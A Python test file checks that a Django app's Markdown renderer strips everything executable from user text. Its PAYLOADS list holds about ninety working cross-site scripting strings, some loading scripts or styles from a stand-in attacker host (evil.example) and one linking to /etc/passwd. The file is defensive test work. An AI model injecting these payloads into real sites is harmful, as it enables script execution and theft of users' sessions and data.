"""Text that people type becomes HTML in one place; nothing in it may run, load or style anything."""

from html.parser import HTMLParser

import pytest
from django.utils.safestring import SafeString
from hypothesis import given
from hypothesis import strategies as st

from questions.markdown import plain, render, render_inline, render_page

ALLOWED = {
    "a": {"href", "rel"},
    "br": set(),
    "code": set(),
    "em": set(),
    "h3": set(),
    "li": set(),
    "ol": {"start"},
    "p": set(),
    "strong": set(),
    "ul": set(),
}
PAGE_ALLOWED = ALLOWED | {"img": {"src", "alt"}}
PAGE_ALLOWED |= {tag: set() for tag in ("h2", "hr", "pre", "table", "tbody", "td", "th", "thead", "tr")}
INLINE = {tag: ALLOWED[tag] for tag in ("br", "code", "em", "strong")}

# Ways of putting a script into a page, from the lists that testers use, and ways through Markdown of getting there.
PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<IMG SRC=javascript:alert(1)>",
    '<img src="x" onerror="alert(1)" /',
    "<img src=`x`onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<body onload=alert(1)>",
    "<body/onpageshow=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import'//evil.example/x.css';</style>",
    "<style>*{background:url(//evil.example)}</style>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example/>",
    "<template><script>alert(1)</script></template>",
    "<xss id=x tabindex=1 onfocus=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java&#115;cript:alert(1)'>x</a>",
    "<a onclick=alert(1) href=https://ok.example>x</a>",
    "<p id=answer class=option-input>x</p>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;&#x61;vascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](javascript&colon;alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/organize/)",
    "[x](#answer)",
    "[x](mailto:a@example.com)",
    '[x](https://ok.example/"onmouseover=alert(1)//)',
    "[x](https://ok.example/'onmouseover=alert(1)//)",
    '[x](https://ok.example "title\\" onmouseover=alert(1) x=\\"")',
    "[<img src=x onerror=alert(1)>](https://ok.example)",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<https://ok.example/<script>alert(1)</script>>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    '![x"onerror="alert(1)](x)',
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "**<script>alert(1)</script>**",
    "1. <script>alert(1)</script>",
    "- <img src=x onerror=alert(1)>",
    "\\<script>alert(1)\\</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "＜script＞alert(1)＜/script＞",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "\ud800<script>alert(1)</script>",
]


class Outline(HTMLParser):
    """The elements of a piece of HTML with their attributes, as a browser's parser would see them."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.other: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))

    def handle_comment(self, data):
        self.other.append(data)

    handle_decl = handle_pi = unknown_decl = handle_comment


def assert_harmless(html: str, allowed: dict[str, set[str]]) -> None:
    outline = Outline(html)
    assert outline.other == []
    for tag, attributes in outline.elements:
        assert tag in allowed
        assert set(attributes) <= allowed[tag]
        assert attributes.get("href", "https://").startswith(("https://", "http://"))
        assert attributes.get("start", "1").isdigit()
        assert attributes.get("rel", "noopener nofollow") == "noopener nofollow"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_dangerous_comes_through(payload):
    assert_harmless(render(payload), ALLOWED)
    assert_harmless(render_inline(payload), INLINE)


@given(st.text(alphabet="<>&\"'`*_[]()!\\/:#- \nabjavscript=0", max_size=60))
def test_nothing_dangerous_comes_out_of_any_mixture(text):
    assert_harmless(render(text), ALLOWED)
    assert_harmless(render_inline(text), INLINE)


@pytest.mark.parametrize(
    "text,html",
    [
        ("Cán bộ **đầu mối**", "<p>Cán bộ <strong>đầu mối</strong></p>"),
        ("*một cửa*", "<p><em>một cửa</em></p>"),
        ("dòng một\ndòng hai", "<p>dòng một<br>\ndòng hai</p>"),
        ("đoạn một\n\nđoạn hai", "<p>đoạn một</p>\n<p>đoạn hai</p>"),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>"),
        ("3. ba\n4. bốn", '<ol start="3">\n<li>ba</li>\n<li>bốn</li>\n</ol>'),
        ("`TTHC`", "<p><code>TTHC</code></p>"),
        (
            "[Cổng](https://dichvucong.gov.vn)",
            '<p><a href="https://dichvucong.gov.vn" rel="noopener nofollow">Cổng</a></p>',
        ),
        ("# Điều 2", "<h3>Điều 2</h3>"),
        ("###### Điều 2\ntheo đây", "<h3>Điều 2</h3>\n<p>theo đây</p>"),
        ("#2 là số", "<p>#2 là số</p>"),
        ("##", "<p>##</p>"),
        ("1 < 2 & 3 > 2", "<p>1 &lt; 2 &amp; 3 &gt; 2</p>"),
        ("27/2020/QĐ-UBND, khoản 2_3_4", "<p>27/2020/QĐ-UBND, khoản 2_3_4</p>"),
        ("", ""),
    ],
)
def test_the_subset_renders(text, html):
    assert render(text) == html


def test_a_line_has_no_paragraph_and_no_link():
    assert render_inline("**Đúng** [Cổng](https://dichvucong.gov.vn)") == "<strong>Đúng</strong> Cổng"


def test_what_is_rendered_is_safe_for_templates():
    assert isinstance(render("a"), SafeString)
    assert isinstance(render_inline("a"), SafeString)


@pytest.mark.parametrize(
    "text,expected",
    [
        ("**Điều** `24`\nvà *25*", "Điều 24 và 25"),
        ("[Cổng](https://dichvucong.gov.vn)", "Cổng"),
        ("a < b", "a < b"),
        ("", ""),
    ],
)
def test_plain_text_loses_its_marks(text, expected):
    assert plain(text) == expected


@given(st.text(alphabet="<>:#-~+.(){}|=\"' \t\f\xa0\u2028\ud800aÊ1", max_size=40))
def test_a_text_without_marks_is_told_as_the_parser_tells_it(text):
    """The lone star at the end, which stays as it is, sends the text to the parser."""
    assert plain(f"{text} *") == f"{plain(text)} *".strip()


def test_plain_text_is_still_escaped_by_templates():
    assert not isinstance(plain("<b>"), SafeString)


PAGE = """| A | B |
|---|---|
| 1 | [b](other.md) |

![words](../x.png)
"""


def test_a_page_of_the_site_has_tables_pictures_and_addresses():
    html = render_page(PAGE, lambda name: f"/at/{name.rpartition('/')[2]}")
    assert '<td><a href="/at/other.md" rel="noopener nofollow">b</a></td>' in html
    picture = '<img src="/at/x.png" alt="words">'
    assert f'<a href="/at/x.png" rel="noopener nofollow">{picture}</a>' in html  # opened alone, a phone makes it larger


def test_a_picture_in_a_link_leads_where_the_link_does():
    html = render_page("[a](b.md) [![words](x.png)](y.md)", lambda name: f"/{name}")
    rel = 'rel="noopener nofollow"'
    assert html == f'<p><a href="/b.md" {rel}>a</a> <a href="/y.md" {rel}><img src="/x.png" alt="words"></a></p>'


def test_a_picture_of_a_page_cannot_break_out_of_its_link():
    html = render_page("![words](x.png)", lambda name: '/"><script>alert(1)</script>')
    assert "<script>" not in html


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_page_of_the_site_runs_nothing_either(payload):
    assert_harmless(render_page(payload, lambda name: f"https://site.example/{len(name)}"), PAGE_ALLOWED)
